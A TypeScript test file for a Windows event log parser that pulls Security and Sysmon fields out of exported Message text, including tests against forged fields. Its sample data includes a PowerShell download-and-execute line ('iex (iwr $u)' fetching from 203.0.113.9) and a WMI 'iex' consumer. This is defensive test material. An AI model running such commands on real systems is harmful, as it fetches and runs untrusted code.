/**
 * winEventFields: the EventData fields of a plain Get-WinEvent | Export-Csv,
 * read out of Windows' English Message text, equal the docs command's columns.
 */
import assert from "node:assert/strict";
import path from "node:path";
import { describe, it } from "node:test";
import pl from "nodejs-polars";
import { readDataFile } from "../../../src/data/readers";
import { MAX_MESSAGE_CHARS, winEventFields, winEventLayoutParts, winEventLayoutRows } from "../../../src/data/schemas/winEvent";
import { tempTree } from "../../helpers/tmp";
import { chain, eventDataCsv, HOST, msg4688De, plainExportCsv, type Event } from "./winEventExports";

const read = (name: string, text: string) => readDataFile(path.join(tempTree({ [name]: text }), name));
// Times (the docs export's UtcTime is read as one) as Sysmon writes them.
const texts = (df: pl.DataFrame, name: string) =>
  (df.getColumn(name).toArray() as unknown[]).map((v) => (v === null ? null : v instanceof Date ? v.toISOString().replace("T", " ").replace("Z", "") : String(v)));
const first = (df: pl.DataFrame, name: string, i = 0) => (df.getColumn(name).toArray() as unknown[])[i];
// Rendered as words in the Message, as %%codes in EventData: not comparable.
const RENDERED = new Set(["TokenElevationType", "MandatoryLabel", "ImpersonationLevel", "FailureReason"]);

/** Every EventData column of the docs command's export equals the one read from the plain export's Message. */
function sameFields(events: Parameters<typeof plainExportCsv>[0]) {
  const warnings: string[] = [];
  const read1 = winEventFields(read("plain.csv", plainExportCsv(events)), { warn: (m) => warnings.push(m) });
  const docs = read("docs.csv", eventDataCsv(events));
  const fields = docs.columns.filter((c) => !["TimeGenerated", "EventID", "Computer"].includes(c) && !RENDERED.has(c));
  for (const f of fields) assert.deepEqual(texts(read1, f), texts(docs, f), f);
  assert.deepEqual(warnings, []);
  return read1;
}

/** A Get-WinEvent export of Security 4688 events with these Messages. */
const securityExport = (messages: string[]) =>
  pl.DataFrame({
    Message: messages,
    Id: messages.map(() => 4688),
    ProviderName: messages.map(() => "Microsoft-Windows-Security-Auditing"),
    MachineName: messages.map(() => HOST),
    TimeCreated: messages.map(() => "5/31/2026 3:00:00 PM"),
  });

/** A Get-WinEvent export of Sysmon events with these Messages. */
const sysmonExport = (messages: string[]) =>
  pl.DataFrame({
    Message: messages,
    Id: messages.map(() => 1),
    ProviderName: messages.map(() => "Microsoft-Windows-Sysmon"),
    MachineName: messages.map(() => HOST),
    TimeCreated: messages.map(() => "5/31/2026 3:00:00 PM"),
    ProcessId: messages.map(() => 4),
  });

describe("winEventFields", () => {
  const procs = chain(5);

  it("4688: the EventData fields, the creator's ProcessId (not the log writer's 4), the section deciding Subject/Target", () => {
    const df = sameFields(procs.map((proc) => ({ id: 4688 as const, proc })));
    assert.deepEqual(texts(df, "ProcessId"), procs.map((p) => "0x" + p.ppid.toString(16)));
    assert.deepEqual([...new Set(texts(df, "SubjectUserName"))], ["alice"]);
    assert.deepEqual([...new Set(texts(df, "TargetUserName"))], ["-"]);
    assert.deepEqual([...new Set(texts(df, "SubjectLogonId"))], ["0x3a4f12"]);
    assert.deepEqual(texts(df, "EventID"), procs.map(() => "4688"));
    assert.deepEqual([...new Set(texts(df, "Computer"))], [HOST]);
  });

  it("TimeGenerated is TimeCreated, the exporting machine's local time (UTC-4 here), not turned into UTC", () => {
    const df = winEventFields(read("plain.csv", plainExportCsv(procs.map((proc) => ({ id: 4688 as const, proc })))));
    assert.equal((first(df, "TimeGenerated") as Date).toISOString(), "2026-05-31T15:00:00.000Z", "5/31/2026 3:00:00 PM as written");
    // A culture whose format is not read stays text.
    const local = (t: string) => winEventFields(pl.DataFrame({ Message: [""], Id: [4688], ProviderName: ["x"], MachineName: [HOST], TimeCreated: [t] }));
    assert.equal((first(local("31.05.2026 15:00:00"), "TimeGenerated") as Date).toISOString(), "2026-05-31T15:00:00.000Z", "de-DE on an English Windows");
    // en-GB past the 12th: only day first reads it, so day first (it was kept as text: the row had no time).
    assert.equal((first(local("31/05/2026 15:00:00"), "TimeGenerated") as Date).toISOString(), "2026-05-31T15:00:00.000Z", "en-GB, a day past the 12th");
    assert.deepEqual(texts(local("2026/05/31 午後 3:00:00"), "TimeGenerated"), ["2026/05/31 午後 3:00:00"]);
  });

  it("TimeCreated day first with dots and an offset (de-DE formatted with zzz): an instant, read as UTC; a mixed column stays text", () => {
    const local = (t: string[]) => winEventFields(pl.DataFrame({ Message: t.map(() => ""), Id: t.map(() => 4688), ProviderName: t.map(() => "x"), MachineName: t.map(() => HOST), TimeCreated: t }));
    const read = local(["31.05.2026 15:00:00 +02:00", "01.06.2026 09:30:05 -04:00"]);
    assert.deepEqual((read.getColumn("TimeGenerated").toArray() as unknown as Date[]).map((d) => d.toISOString()), ["2026-05-31T13:00:00.000Z", "2026-06-01T13:30:05.000Z"]);
    assert.deepEqual(texts(local(["31.05.2026 15:00:00 +02:00", "31.05.2026 15:00:00"]), "TimeGenerated"), ["31.05.2026 15:00:00 +02:00", "31.05.2026 15:00:00"]);
  });

  it("4624: Subject and New Logon accounts, logon type, source address and port, workstation, logon process", () => {
    const logons = [{ user: "bob", type: 3, ip: "203.0.113.45" }, { user: "alice", type: 10, ip: "198.51.100.7" }];
    const df = sameFields(logons.map((logon) => ({ id: 4624 as const, logon })));
    assert.deepEqual(texts(df, "TargetUserName"), ["bob", "alice"]);
    assert.deepEqual(texts(df, "SubjectUserName"), ["WS01$", "WS01$"]);
    assert.deepEqual(texts(df, "LogonType"), ["3", "10"]);
    assert.deepEqual(texts(df, "IpAddress"), ["203.0.113.45", "198.51.100.7"]);
    assert.deepEqual(texts(df, "LogonProcessName"), ["NtLmSsp ", "NtLmSsp "]);
  });

  it("4625: the failed logon's account, logon type, status codes (lower case, as EventData), source address and workstation", () => {
    const spray = ["bob", "carol", "dave"].map((user) => ({ id: 4625 as const, logon: { user, type: 3, ip: "203.0.113.45" } }));
    const df = sameFields(spray);
    assert.deepEqual(texts(df, "TargetUserName"), ["bob", "carol", "dave"]);
    assert.deepEqual([...new Set(texts(df, "TargetDomainName"))], ["CONTOSO"]);
    assert.deepEqual([...new Set(texts(df, "SubjectUserName"))], ["-"]);
    assert.deepEqual([...new Set(texts(df, "LogonType"))], ["3"]);
    assert.deepEqual([...new Set(texts(df, "Status"))], ["0xc000006d"]);
    assert.deepEqual([...new Set(texts(df, "SubStatus"))], ["0xc000006a"], "a wrong password, not an unknown user");
    assert.deepEqual([...new Set(texts(df, "FailureReason"))], ["Unknown user name or bad password."], "as Windows renders %%2313");
    assert.deepEqual([...new Set(texts(df, "IpAddress"))], ["203.0.113.45"]);
    assert.deepEqual([...new Set(texts(df, "WorkstationName"))], ["ATTACKER-PC"]);
    assert.deepEqual([...new Set(texts(df, "ProcessName"))], ["-"], "Caller Process Name");
    assert.equal(df.columns.includes("This event is generated when a logon request fails. It is generated on the computer where access was attempted."), false);
  });

  it("Sysmon 3: the connection's fields under their own names", () => {
    const conn = { pid: 4242, image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", initiated: true, protocol: "tcp" as const, src: "10.20.4.17", sport: 50110, dst: "198.51.100.23", dport: 443, dportName: "https" };
    const df = sameFields([{ id: 3, conn }]);
    assert.deepEqual([texts(df, "Initiated"), texts(df, "DestinationIp"), texts(df, "DestinationPort")], [["true"], ["198.51.100.23"], ["443"]]);
  });

  it("Sysmon: every Key: Value line under its own name", () => {
    const df = sameFields(procs.map((proc) => ({ id: 1 as const, proc })));
    assert.deepEqual(texts(df, "ProcessId"), procs.map((p) => String(p.pid)));
    assert.deepEqual(texts(df, "ParentImage"), procs.map((p) => p.pimage));
  });

  it("a row of another event, or whose Message fits no template, keeps nulls; the others are read", () => {
    const [p] = procs;
    const base = winEventFields(read("plain.csv", plainExportCsv([{ id: 4688, proc: p }])));
    const message = first(base, "Message") as string;
    const df = pl.DataFrame({
      Message: [message, "An account was logged off.\r\n\r\nSubject:\r\n\tAccount Name:\t\tbob", null, "A new process has been created.", message],
      Id: [4688, 4634, 4688, 4688, 4688],
      ProviderName: ["Microsoft-Windows-Security-Auditing", "Microsoft-Windows-Security-Auditing", "Microsoft-Windows-Security-Auditing", "Microsoft-Windows-Security-Auditing", "Other-Provider"],
      MachineName: [HOST, HOST, HOST, HOST, HOST],
      TimeCreated: ["5/31/2026 3:00:00 PM", "5/31/2026 3:00:01 PM", "5/31/2026 3:00:02 PM", "5/31/2026 3:00:03 PM", "5/31/2026 3:00:04 PM"],
    });
    const warnings: string[] = [];
    const out = winEventFields(df, { warn: (m) => warnings.push(m) });
    assert.deepEqual(texts(out, "NewProcessId"), ["0x1000", null, null, null, null]);
    assert.deepEqual(texts(out, "SubjectUserName"), ["alice", null, null, null, null]);
    assert.deepEqual(warnings, []);
    assert.equal(winEventFields(out), out, "a frame already read comes back as is");
  });

  it("a German Message: nulls and one warning naming the column, saying only English is read", () => {
    const events = procs.map((proc) => ({ id: 4688 as const, proc }));
    const warnings: string[] = [];
    const df = winEventFields(read("de.csv", plainExportCsv(events, (e) => msg4688De((e as { proc: (typeof procs)[0] }).proc))), { warn: (m) => warnings.push(m) });
    assert.equal(df.columns.includes("NewProcessId"), false);
    assert.equal(warnings.length, 1, warnings.join("\n"));
    assert.match(warnings[0], /^column Message: 5 Security 4688\/4624\/4625 message\(s\) are not in English .*; only Windows' English Message labels are read/);
    assert.match(warnings[0], /docs\/schemas\.md, section "From EVTX \(Windows event logs\)"/);
  });

  it("a hostile Message (100k lines, \\r line ends, keys past Sysmon's) is read up to the cut, in bounded time", () => {
    const keys = Array.from({ length: 100_000 }, (_, i) => `K${i}: v`).join("\r");
    const cmd = "x".repeat(200_000);
    const df = pl.DataFrame({
      Message: ["Process Create:\rProcessId: 6\rCommandLine: a", "Process Create:\r" + keys, `Process Create:\rProcessId: 7\rCommandLine: ${cmd}`, "Process Create:\rProcessId: 8\rCommandLine: b"],
      Id: [1, 1, 1, 1],
      ProviderName: Array(4).fill("Microsoft-Windows-Sysmon"),
      MachineName: Array(4).fill(HOST),
      TimeCreated: ["5/31/2026 3:00:00 PM", "5/31/2026 3:00:01 PM", "5/31/2026 3:00:02 PM", "5/31/2026 3:00:03 PM"],
    });
    const warnings: string[] = [];
    // CPU time, not wall time: other processes waiting for the cores stretch the one, not the other (polars' threads count too).
    const cpu0 = process.cpuUsage();
    const out = winEventFields(df, { warn: (m) => warnings.push(m) });
    const cpu = process.cpuUsage(cpu0);
    const cpuMs = (cpu.user + cpu.system) / 1000;
    assert.ok(cpuMs < 5000, `${cpuMs} ms of CPU`);
    assert.deepEqual(out.columns.slice(df.width), ["EventID", "Computer", "TimeGenerated", "ProcessId", "CommandLine"], "keys not Sysmon's are no columns");
    assert.deepEqual(texts(out, "ProcessId"), ["6", null, "7", "8"], "the other rows are read, their keys kept");
    assert.deepEqual(texts(out, "CommandLine").map((c) => c?.length), [1, undefined, MAX_MESSAGE_CHARS - "Process Create:\rProcessId: 7\rCommandLine: ".length, 1]);
    assert.equal((first(out, "CommandLine", 2) as string).length, MAX_MESSAGE_CHARS - "Process Create:\rProcessId: 7\rCommandLine: ".length);
    assert.equal(warnings.length, 1, warnings.join("\n"));
    assert.match(warnings[0], /^column Message: 2 message\(s\) longer than 65536 characters .* were read up to the first 65536 characters only/);
  });

  it("a Sysmon key named like a column it adds (Computer, TimeGenerated, EventID) is dropped: the added columns win, the file reads", () => {
    const out = winEventFields(sysmonExport(["Process Create:\nRuleName: -\nComputer: evil\nTimeGenerated: evil\nEventID: evil\nProcessId: 123"]));
    assert.deepEqual(out.columns.filter((c) => ["Computer", "TimeGenerated", "EventID"].includes(c)), ["EventID", "Computer", "TimeGenerated"]);
    assert.deepEqual([first(out, "EventID"), first(out, "Computer"), first(out, "ProcessId")], [1, HOST, "123"]);
    assert.ok(first(out, "TimeGenerated") instanceof Date, "TimeCreated read as a time");
  });

  it("an event field named like an export column (Sysmon 4's Version, 255's ID) is EventData<Name>: the export's Version, Level… survive in every row", () => {
    const at = (ids: number[], messages: string[]) =>
      pl.DataFrame({
        Message: messages, Id: ids, Version: ids.map((_, i) => i + 3), Level: ids.map(() => 4), ProviderName: ids.map(() => "Microsoft-Windows-Sysmon"),
        MachineName: ids.map(() => HOST), TimeCreated: ids.map(() => "5/31/2026 3:00:00 PM"), ProcessId: ids.map(() => 3000), ThreadId: ids.map(() => 77),
      });
    const out = winEventFields(
      at([4, 1, 255], [
        "Sysmon service state changed:\r\nUtcTime: 2026-05-31 19:00:00.000\r\nState: Started\r\nVersion: 15.15\r\nSchemaVersion: 4.90",
        "Process Create:\r\nRuleName: -\r\nUtcTime: 2026-05-31 19:00:01.000\r\nProcessGuid: {a}\r\nProcessId: 100\r\nImage: C:\\x.exe",
        "Error report:\r\nUtcTime: 2026-05-31 19:00:02.000\r\nID: DriverCommunication\r\nDescription: Failed",
      ]),
    );
    assert.deepEqual(texts(out, "Version"), ["3", "4", "5"], "the export's own Version (it was 15.15, null, null)");
    assert.deepEqual(texts(out, "EventDataVersion"), ["15.15", null, null]);
    assert.deepEqual(texts(out, "EventDataID"), [null, null, "DriverCommunication"]);
    assert.deepEqual([texts(out, "Level"), texts(out, "ThreadId"), texts(out, "Id")], [["4", "4", "4"], ["77", "77", "77"], ["4", "1", "255"]]);
    assert.deepEqual(texts(out, "ProcessId"), [null, "100", null], "the event's ProcessId replaces the log writer's, on purpose");
  });

  it("a command line's continuation lines that look like Key: Value (a path, a URL) stay in CommandLine; only Sysmon's field names start a field", () => {
    const out = winEventFields(sysmonExport(["Process Create:\nRuleName: -\nProcessId: 123\nCommandLine: cmd /c echo a\nC:\\Windows\\evil.exe arg\nhttp://203.0.113.9/x\nSomeFutureField: 1\nCurrentDirectory: C:\\"]));
    assert.equal(first(out, "CommandLine"), "cmd /c echo a\nC:\\Windows\\evil.exe arg\nhttp://203.0.113.9/x\nSomeFutureField: 1");
    assert.deepEqual([first(out, "CurrentDirectory"), first(out, "ProcessId")], ["C:\\", "123"]);
    assert.deepEqual(out.columns.filter((c) => ["C", "http", "SomeFutureField"].includes(c)), []);
  });

  it("a field written twice (a command line's line breaks forging one): the first is read, the repeat stays in the value, one warning counts the rows", () => {
    const forged = "Process Create:\nImage: C:\\Users\\a\\evil.exe\nCommandLine: evil.exe\nImage: C:\\Windows\\System32\\svchost.exe\nUser: WS01\\alice";
    const clean = "Process Create:\nImage: C:\\x.exe\nCommandLine: x\nUser: WS01\\bob";
    const warnings: string[] = [];
    const out = winEventFields(sysmonExport([forged, clean, forged]), { warn: (m) => warnings.push(m) });
    assert.deepEqual(texts(out, "Image"), ["C:\\Users\\a\\evil.exe", "C:\\x.exe", "C:\\Users\\a\\evil.exe"]);
    assert.equal(first(out, "CommandLine"), "evil.exe\nImage: C:\\Windows\\System32\\svchost.exe");
    assert.equal(first(out, "User"), "WS01\\alice");
    assert.equal(warnings.length, 1, warnings.join("\n"));
    assert.match(warnings[0], /^column Message: 2 message\(s\) name a field twice or out of its place; .*a command line with line breaks may forge the fields written after it/);
    assert.match(warnings[0], /docs\/schemas\.md/);
  });

  it("4688: a command line forging New Process Name on its next line leaves the real one; the line stays in CommandLine", () => {
    const message = [
      "A new process has been created.", "", "Creator Subject:", "\tSecurity ID:\t\tS-1-5-18", "\tAccount Name:\t\tWS01$", "\tLogon ID:\t\t0x3E7", "",
      "Process Information:", "\tNew Process ID:\t\t0x1a4", "\tNew Process Name:\tC:\\Users\\a\\evil.exe", "\tCreator Process ID:\t0x2b0",
      "\tProcess Command Line:\tevil.exe", "\tNew Process Name:\tC:\\Windows\\System32\\svchost.exe", "",
    ].join("\r\n");
    const warnings: string[] = [];
    const df = pl.DataFrame({ Message: [message], Id: [4688], ProviderName: ["Microsoft-Windows-Security-Auditing"], MachineName: [HOST], TimeCreated: ["5/31/2026 3:00:00 PM"] });
    const out = winEventFields(df, { warn: (m) => warnings.push(m) });
    assert.equal(first(out, "NewProcessName"), "C:\\Users\\a\\evil.exe");
    assert.equal(first(out, "CommandLine"), "evil.exe\n\tNew Process Name:\tC:\\Windows\\System32\\svchost.exe");
    assert.equal(warnings.length, 1, warnings.join("\n"));
  });
});

describe("winEventFields: a command line's blank lines and heading-like lines are its own", () => {
  /** A script passed on the command line: blank lines, a line ending in a colon, a Key: Value line that is no field. */
  const script = ["powershell.exe -c \"", "", "$u = 'http://203.0.113.9/p'", "Setup:", "", "", "Target: $env:TEMP", "iex (iwr $u)\""];

  it("Sysmon: the command line runs to the next Sysmon field, blank lines kept; the fields after it are read", () => {
    const message = ["Process Create:", "RuleName: -", "ProcessId: 123", "Image: C:\\x.exe", `CommandLine: ${script[0]}`, ...script.slice(1), "CurrentDirectory: C:\\", "User: WS01\\alice", ""].join("\r\n");
    const warnings: string[] = [];
    const out = winEventFields(sysmonExport([message]), { warn: (m) => warnings.push(m) });
    assert.equal(first(out, "CommandLine"), script.join("\n"));
    assert.deepEqual([first(out, "CurrentDirectory"), first(out, "User"), first(out, "ProcessId")], ["C:\\", "WS01\\alice", "123"], "the Message's own last line end is no blank line of User");
    assert.deepEqual(out.columns.filter((c) => ["Setup", "Target", "$u = 'http"].includes(c)), []);
    assert.deepEqual(warnings, []);
  });

  it("Sysmon: blank lines before the next field are the value's own (only the Message's end drops them); a field named again after a blank line stays in the value and warns", () => {
    const message = ["Process Create:", "Image: C:\\Users\\a\\evil.exe", "CommandLine: evil.exe", "", "", "Image: C:\\Windows\\System32\\svchost.exe", "", "CurrentDirectory: C:\\", "", ""].join("\n");
    const warnings: string[] = [];
    const out = winEventFields(sysmonExport([message]), { warn: (m) => warnings.push(m) });
    assert.equal(first(out, "Image"), "C:\\Users\\a\\evil.exe");
    assert.equal(first(out, "CommandLine"), "evil.exe\n\n\nImage: C:\\Windows\\System32\\svchost.exe\n");
    assert.equal(first(out, "CurrentDirectory"), "C:\\");
    assert.equal(warnings.length, 1, warnings.join("\n"));
    assert.match(warnings[0], /name a field twice/);
  });

  /** Sysmon 1's whole Message, in its field order, with this command line and parent command line. */
  const sysmon1 = (cmd: string, parentCmd = '"C:\\Windows\\explorer.exe"') =>
    [
      "Process Create:", "RuleName: -", "UtcTime: 2026-05-31 19:00:00.123", "ProcessGuid: {f162fe7e-9b41-6a1c-0123-000000000900}", "ProcessId: 291",
      "Image: C:\\Windows\\System32\\cmd.exe", "FileVersion: 10.0.19041.1", "Description: Windows Command Processor", "Product: Microsoft® Windows® Operating System",
      "Company: Microsoft Corporation", "OriginalFileName: Cmd.Exe", `CommandLine: ${cmd}`, "CurrentDirectory: C:\\Users\\alice\\", "User: CONTOSO\\alice",
      "LogonGuid: {f162fe7e-0000-6a1c-124f-3a0000000000}", "LogonId: 0x3A4F12", "TerminalSessionId: 1", "IntegrityLevel: Medium", "Hashes: SHA256=9A7C58BD",
      "ParentProcessGuid: {f162fe7e-9b41-6a1c-0122-000000000900}", "ParentProcessId: 290", "ParentImage: C:\\Windows\\explorer.exe",
      `ParentCommandLine: ${parentCmd}`, "ParentUser: CONTOSO\\alice",
    ].join("\r\n");

  it("Sysmon 1: a command line's blank lines at its end are its own (they were dropped); the Message's own end is not", () => {
    const out = winEventFields(sysmonExport([sysmon1("cmd /c \"echo a\r\n\r\n\""), sysmon1("cmd /c echo b\r\n\r\n"), sysmon1("x", "p\r\n") + "\r\n\r\n"]));
    assert.deepEqual(texts(out, "CommandLine"), ['cmd /c "echo a\n\n"', "cmd /c echo b\n\n", "x"]);
    assert.deepEqual(texts(out, "CurrentDirectory"), Array(3).fill("C:\\Users\\alice\\"));
    assert.deepEqual(texts(out, "ParentCommandLine"), ['"C:\\Windows\\explorer.exe"', '"C:\\Windows\\explorer.exe"', "p\n"]);
    assert.deepEqual(texts(out, "ParentUser"), Array(3).fill("CONTOSO\\alice"), "blank lines after the last field are the Message's end");
  });

  it("Sysmon 1: a command line's lines naming the fields after it (CurrentDirectory, User…) stay in it: fields come in Sysmon's fixed order", () => {
    const forged = "cmd /c echo\r\nCurrentDirectory: C:\\evil\r\nUser: EVIL\\mallory\r\nLogonId: 0x0\r\n\r\nParentImage: C:\\evil.exe";
    const parentForged = "explorer.exe\r\nParentUser: EVIL\\mallory";
    const warnings: string[] = [];
    const out = winEventFields(sysmonExport([sysmon1(forged), sysmon1("plain"), sysmon1("x", parentForged)]), { warn: (m) => warnings.push(m) });
    assert.deepEqual(texts(out, "CommandLine"), [forged.replaceAll("\r\n", "\n"), "plain", "x"]);
    assert.deepEqual(texts(out, "CurrentDirectory"), Array(3).fill("C:\\Users\\alice\\"));
    assert.deepEqual(texts(out, "User"), Array(3).fill("CONTOSO\\alice"));
    assert.deepEqual(texts(out, "LogonId"), Array(3).fill("0x3a4f12"));
    assert.deepEqual(texts(out, "ParentImage"), Array(3).fill("C:\\Windows\\explorer.exe"));
    assert.deepEqual(texts(out, "ParentCommandLine"), ['"C:\\Windows\\explorer.exe"', '"C:\\Windows\\explorer.exe"', "explorer.exe\nParentUser: EVIL\\mallory"]);
    assert.deepEqual(texts(out, "ParentUser"), Array(3).fill("CONTOSO\\alice"));
    assert.equal(warnings.length, 1, warnings.join("\n"));
    assert.match(warnings[0], /^column Message: 2 message\(s\) name a field twice or out of its place/);
  });

  it("Sysmon 1: a field before the command line named in it stays in it; an earlier field after a later one is text", () => {
    const forged = "evil.exe\r\nImage: C:\\Windows\\System32\\svchost.exe\r\nProcessId: 4";
    const out = winEventFields(sysmonExport([sysmon1(forged)]), { warn: () => {} });
    assert.deepEqual([first(out, "Image"), first(out, "ProcessId"), first(out, "CommandLine")], ["C:\\Windows\\System32\\cmd.exe", "291", forged.replaceAll("\r\n", "\n")]);
  });

  /** Windows' 4688 rendering with this command line (its lines), then the closing explanation. */
  const msg4688 = (cmd: readonly string[]) =>
    [
      "A new process has been created.", "", "Creator Subject:", "\tSecurity ID:\t\tS-1-5-18", "\tAccount Name:\t\tWS01$", "\tAccount Domain:\t\tCONTOSO", "\tLogon ID:\t\t0x3E7", "",
      "Target Subject:", "\tSecurity ID:\t\tS-1-0-0", "\tAccount Name:\t\t-", "\tAccount Domain:\t\t-", "\tLogon ID:\t\t0x0", "",
      "Process Information:", "\tNew Process ID:\t\t0x1a4", "\tNew Process Name:\tC:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "\tToken Elevation Type:\tTokenElevationTypeDefault (1)", "", "\tMandatory Label:\t\tMandatory Label\\High Mandatory Level",
      "\tCreator Process ID:\t0x2b0", "\tCreator Process Name:\tC:\\Windows\\explorer.exe", `\tProcess Command Line:\t${cmd[0]}`, ...cmd.slice(1), "",
      "Token Elevation Type indicates the type of token that was assigned to the new process in accordance with User Account Control policy.", "",
      "Type 1 is a full token with no privileges removed or groups disabled.", "",
      "Mandatory Label is the integrity level of the new process.",
    ].join("\r\n");

  it("4688: Process Command Line runs to the closing explanation: blank, heading-like and indented lines kept", () => {
    const cmd = [...script.slice(0, 4), "Target Subject:", "\tAccount Name:\t\tadmin", "", ...script.slice(4)];
    const warnings: string[] = [];
    const out = winEventFields(securityExport([msg4688(cmd), msg4688(["cmd.exe /c whoami"])]), { warn: (m) => warnings.push(m) });
    assert.deepEqual(texts(out, "CommandLine"), [cmd.join("\n"), "cmd.exe /c whoami"]);
    assert.deepEqual(texts(out, "TargetUserName"), ["-", "-"], "a Target Subject heading inside the command line forges no account: the real one was read");
    assert.deepEqual(texts(out, "ParentProcessName"), ["C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe"]);
    assert.deepEqual(texts(out, "MandatoryLabel"), ["Mandatory Label\\High Mandatory Level", "Mandatory Label\\High Mandatory Level"], "the template's own blank line before it");
    assert.deepEqual(warnings, [], "no field named twice: under Process Information, Account Name is no label");
  });

  it("4688: a command line that copies the closing explanation keeps what follows; the real explanation is the last", () => {
    const cmd = ["x.exe", "", "Token Elevation Type indicates the type of token that was assigned to the new process in accordance with User Account Control policy.", "", "y.exe"];
    const out = winEventFields(securityExport([msg4688(cmd)]), { warn: () => {} });
    assert.equal(first(out, "CommandLine"), cmd.join("\n"));
  });

  it("4688 and 4624: other fields still end at a blank line (the template's own between sections)", () => {
    const out = winEventFields(securityExport([msg4688(["a.exe"])]), { warn: () => {} });
    assert.equal(first(out, "SubjectLogonId"), "0x3e7");
    assert.equal(first(out, "TokenElevationType"), "TokenElevationTypeDefault (1)");
  });
});

describe("TimeCreated as PowerShell 5.1's ConvertTo-Json writes it", () => {
  it("`/Date(<epoch ms>)/` is the instant it names (UTC); it stayed text and a window failed on it", () => {
    const ms = Date.UTC(2026, 4, 31, 19, 0, 0);
    const df = pl.DataFrame({
      Message: ["Process Create:\nRuleName: -\nUtcTime: 2026-05-31 19:00:00.000\nProcessId: 1234\nImage: C:\\x.exe", null],
      Id: [1, 1],
      ProviderName: ["Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon"],
      MachineName: ["WS1", "WS1"],
      TimeCreated: [`/Date(${ms})/`, `/Date(${ms + 1000})/`],
    });
    const out = winEventFields(df, { warn: () => {} });
    assert.equal(out.getColumn("TimeGenerated").dtype.variant, "Datetime");
    assert.deepEqual((out.getColumn("TimeGenerated").toArray() as unknown as Date[]).map((d) => d.getTime()), [ms, ms + 1000]);
  });
});

describe("winEventFields: every Sysmon event id read in its own field order (sysmonSchema.ts)", () => {
  /** A Get-WinEvent export of Sysmon events of these ids with these Messages. */
  const sysmonEvents = (events: readonly (readonly [number, string])[]) =>
    pl.DataFrame({
      Message: events.map(([, m]) => m),
      Id: events.map(([id]) => id),
      ProviderName: events.map(() => "Microsoft-Windows-Sysmon"),
      MachineName: events.map(() => HOST),
      TimeCreated: events.map(() => "5/31/2026 3:00:00 PM"),
    });
  const head = ["RuleName: -", "UtcTime: 2026-05-31 19:00:00.123", "ProcessGuid: {f162fe7e-9b41-6a1c-0123-000000000900}", "ProcessId: 291"];

  it("Sysmon 13: a registry value's data naming User on its own line stays in Details; the real User is the last (it started User early)", () => {
    const details = "line one\r\nUser: NT AUTHORITY\\SYSTEM";
    const message = ["Registry value set:", "RuleName: -", "EventType: SetValue", ...head.slice(1), "Image: C:\\Windows\\regedit.exe",
      "TargetObject: HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", `Details: ${details}`, "User: CONTOSO\\alice"].join("\r\n");
    const warnings: string[] = [];
    const out = winEventFields(sysmonEvents([[13, message]]), { warn: (m) => warnings.push(m) });
    assert.deepEqual([first(out, "Details"), first(out, "User")], [details.replace("\r\n", "\n"), "CONTOSO\\alice"]);
    assert.equal(warnings.length, 1, "the forged User line is out of its place");
  });

  it("Sysmon 20: a WMI consumer's command naming another event's field (Consumer:, CommandLine:) stays in Destination", () => {
    const destination = "powershell.exe -c \"iex $x\"\r\nConsumer: CommandLineEventConsumer.Name=\"fake\"\r\nCommandLine: calc.exe";
    const message = ["WmiEventConsumer activity detected:", "RuleName: -", "EventType: WmiConsumerEvent", "UtcTime: 2026-05-31 19:00:00.123", "Operation: Created",
      "User: CONTOSO\\alice", "Name:  \"Updater\"", "Type: Command Line", `Destination: ${destination}`].join("\r\n");
    const warnings: string[] = [];
    const out = winEventFields(sysmonEvents([[20, message]]), { warn: (m) => warnings.push(m) });
    assert.equal(first(out, "Destination"), destination.replaceAll("\r\n", "\n"));
    assert.deepEqual(out.columns.filter((c) => c === "Consumer" || c === "CommandLine"), []);
    assert.deepEqual(warnings, []);
  });

  it("Sysmon 11: a line naming an earlier field (Image:) after the file name is text; 22: the DNS fields in order", () => {
    const file = ["File created:", ...head, "Image: C:\\Users\\alice\\dropper.exe", "TargetFilename: C:\\Users\\Public\\p.exe", "Image: C:\\Windows\\explorer.exe",
      "CreationUtcTime: 2026-05-31 19:00:00.100", "User: CONTOSO\\alice"].join("\r\n");
    const dns = ["Dns query:", ...head, "QueryName: c2.example", "QueryStatus: 0", "QueryResults: ::ffff:198.51.100.23;", "Image: C:\\x.exe", "User: CONTOSO\\alice"].join("\r\n");
    const out = winEventFields(sysmonEvents([[11, file], [22, dns]]), { warn: () => {} });
    assert.deepEqual(texts(out, "Image"), ["C:\\Users\\alice\\dropper.exe", "C:\\x.exe"]);
    assert.deepEqual(texts(out, "TargetFilename"), ["C:\\Users\\Public\\p.exe\nImage: C:\\Windows\\explorer.exe", null]);
    assert.deepEqual(texts(out, "QueryResults"), [null, "::ffff:198.51.100.23;"]);
  });

  it("an event id Sysmon 15 does not have is read by field names, each from its first line (documented fallback)", () => {
    const message = ["Some future event:", ...head, "Image: C:\\x.exe", "Image: C:\\y.exe", "Whatever: 1"].join("\r\n");
    const out = winEventFields(sysmonEvents([[77, message]]), { warn: () => {} });
    assert.deepEqual([first(out, "ProcessId"), first(out, "Image")], ["291", "C:\\x.exe\nImage: C:\\y.exe\nWhatever: 1"]);
    assert.equal(out.columns.includes("Whatever"), false);
  });
});

describe("winEventFields: 4688 without command-line auditing, or its older template", () => {
  /** Windows 7 / Server 2008 R2's 4688 (template 0): no Target Subject, Creator Process Name nor Process Command Line. */
  const v0 = (pid: string, ppid: string) =>
    [
      "A new process has been created.", "", "Subject:", "\tSecurity ID:\t\tS-1-5-21-1", "\tAccount Name:\t\talice", "\tAccount Domain:\t\tCONTOSO", "\tLogon ID:\t\t0x3e7", "",
      "Process Information:", `\tNew Process ID:\t\t${pid}`, "\tNew Process Name:\tC:\\Windows\\System32\\cmd.exe", "\tToken Elevation Type:\tTokenElevationTypeDefault (1)", `\tCreator Process ID:\t${ppid}`, "",
      "Token Elevation Type indicates the type of token that was assigned to the new process in accordance with User Account Control policy.",
    ].join("\r\n");

  it("the template's fields a Message lacks are null columns (they were missing: the lab's CommandLine cells failed), with one warning saying why", () => {
    const warnings: string[] = [];
    const out = winEventFields(securityExport([v0("0x100", "0x50"), v0("0x104", "0x100")]), { warn: (m) => warnings.push(m), source: "security.csv" });
    assert.deepEqual([texts(out, "NewProcessId"), texts(out, "ProcessId")], [["0x100", "0x104"], ["0x50", "0x100"]]);
